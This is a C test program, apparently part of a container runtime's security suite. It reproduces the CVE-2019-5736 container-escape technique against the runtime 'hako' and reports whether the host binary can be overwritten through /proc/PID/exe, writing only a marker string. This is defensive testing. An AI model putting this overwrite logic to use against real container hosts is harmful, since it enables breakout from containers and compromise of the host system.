/* CVE-2019-5736 attacker, run inside a container (static, no libc assumptions about the
 * rootfs). Until STOPFILE exists (at most MAX_SECONDS) it scans every pid of its pid namespace
 * but its own and, for each
 * pid whose /proc/PID/exe it has not seen yet:
 *   - readlink /proc/PID/exe                   (what the process runs: memfd or a host path)
 *   - open /proc/PID/exe O_WRONLY              (direct overwrite attempt)
 *   - open /proc/PID/exe O_PATH, kept          (runc exploit: reopen once the process exits)
 * Each RELEASE_FIFO is opened for reading once a pid whose exe names hako and whose cmdline
 * contains its MARKER has been probed, so that a hako blocked writing its log into that FIFO lingers until it was
 * seen and then goes on and exits. After the scan, every kept O_PATH fd is
 * reopened through /proc/self/fd/N with O_WRONLY and, if that works, written to (the binary
 * would be corrupted: the test points hako at a copy of itself).
 * Every attempt is one line of the report: "pid=.. exe=.. wronly=.. opath=.. reopen=.. write=..".
 * Values: "ok" or the errno name number. Exit 0. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_PIDS 4096

struct seen {
    int pid;
    char exe[256];
    int opath_fd;
    int wronly_err;
    int opath_err;
};

static struct seen seen[MAX_PIDS];
static int nseen;

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

static int cmdline_has(int pid, const char* marker) {
    char path[64], buffer[4096];
    snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return 0;
    ssize_t n = read(fd, buffer, sizeof buffer - 1);
    close(fd);
    if (n <= 0) return 0;
    for (ssize_t i = 0; i < n; ++i)
        if (buffer[i] == 0) buffer[i] = ' ';
    buffer[n] = 0;
    return strstr(buffer, marker) != NULL;
}

static int known(int pid, const char* exe) {
    for (int i = 0; i < nseen; ++i)
        if (seen[i].pid == pid && strcmp(seen[i].exe, exe) == 0) return 1;
    return 0;
}

/* Probes pid (once per exe it shows) and returns whether its exe names hako. */
static int probe(int pid) {
    char path[64], exe[256];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    ssize_t n = readlink(path, exe, sizeof exe - 1);
    if (n < 0) {
        snprintf(exe, sizeof exe, "readlink-errno-%d", errno);
    } else {
        exe[n] = 0;
    }
    int is_hako = strstr(exe, "hako") != NULL;
    if (known(pid, exe) || nseen >= MAX_PIDS) return is_hako;
    struct seen* s = &seen[nseen++];
    s->pid = pid;
    snprintf(s->exe, sizeof s->exe, "%s", exe);
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd >= 0) {
        s->wronly_err = 0;
        /* An open that worked is already the failure; do not write through it here, the
         * reopen below writes once and reports. */
        close(fd);
    } else {
        s->wronly_err = errno;
    }
    s->opath_fd = open(path, O_PATH | O_CLOEXEC);
    s->opath_err = s->opath_fd < 0 ? errno : 0;
    return is_hako;
}

static void err_text(char* out, size_t size, int err) {
    if (err == 0)
        snprintf(out, size, "ok");
    else
        snprintf(out, size, "%d", err);
}

#define MAX_RELEASES 8

int main(int argc, char** argv) {
    if (argc < 4 || (argc - 4) % 2 != 0 || (argc - 4) / 2 > MAX_RELEASES) {
        fprintf(stderr, "usage: %s MAX_SECONDS REPORT STOPFILE [RELEASE_FIFO MARKER]...\n",
                argv[0]);
        return 2;
    }
    double deadline = now() + atof(argv[1]);
    const char* report = argv[2];
    const char* stop = argv[3];
    int releases = (argc - 4) / 2;
    int released[MAX_RELEASES];
    for (int r = 0; r < releases; ++r) released[r] = -1;
    int self = getpid();
    while (now() < deadline && access(stop, F_OK) != 0) {
        DIR* proc = opendir("/proc");
        if (!proc) return 3;
        struct dirent* entry;
        while ((entry = readdir(proc)) != NULL) {
            int pid = atoi(entry->d_name);
            if (pid <= 0 || pid == self) continue;
            /* Only hako running as a container process (its exe readable, so after its
             * execve) releases: the setup process before it has the same cmdline. */
            if (!probe(pid)) continue;
            for (int r = 0; r < releases; ++r) {
                if (released[r] < 0 && cmdline_has(pid, argv[5 + 2 * r]))
                    released[r] = open(argv[4 + 2 * r], O_RDONLY | O_NONBLOCK | O_CLOEXEC);
            }
        }
        closedir(proc);
        for (int r = 0; r < releases; ++r) {
            char sink[4096];
            while (released[r] >= 0 && read(released[r], sink, sizeof sink) > 0) {
            }
        }
        usleep(2000);
    }
    FILE* out = fopen(report, "w");
    if (!out) return 4;
    for (int i = 0; i < nseen; ++i) {
        struct seen* s = &seen[i];
        char wronly[32], opath[32], reopen[32] = "-", wrote[32] = "-";
        err_text(wronly, sizeof wronly, s->wronly_err);
        err_text(opath, sizeof opath, s->opath_err);
        if (s->opath_fd >= 0) {
            char again[64];
            snprintf(again, sizeof again, "/proc/self/fd/%d", s->opath_fd);
            int fd = open(again, O_WRONLY | O_CLOEXEC);
            err_text(reopen, sizeof reopen, fd < 0 ? errno : 0);
            if (fd >= 0) {
                static const char marker[] = "HAKO-CVE-2019-5736-OVERWRITTEN";
                ssize_t w = pwrite(fd, marker, sizeof marker, 0);
                err_text(wrote, sizeof wrote, w < 0 ? errno : 0);
                close(fd);
            }
        }
        fprintf(out, "pid=%d exe=%s wronly=%s opath=%s reopen=%s write=%s\n", s->pid, s->exe,
                wronly, opath, reopen, wrote);
    }
    fprintf(out, "done\n");
    fclose(out);
    return 0;
}
